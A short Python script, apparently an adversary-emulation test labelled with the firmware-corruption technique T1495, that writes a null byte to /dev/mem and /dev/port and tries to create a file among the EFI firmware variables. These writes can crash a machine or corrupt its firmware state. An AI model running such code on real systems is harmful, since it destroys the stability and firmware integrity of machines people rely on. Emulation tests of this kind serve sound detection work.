#!/usr/bin/env python3
# title: Firmware is written to
# technique: T1495
# needs: python3

import os
for path in ("/dev/mem", "/dev/port"):
    with open(path, "wb") as device: device.write(b"\0")
try: os.open("/sys/firmware/efi/efivars/x", os.O_WRONLY | os.O_CREAT)
except OSError: pass
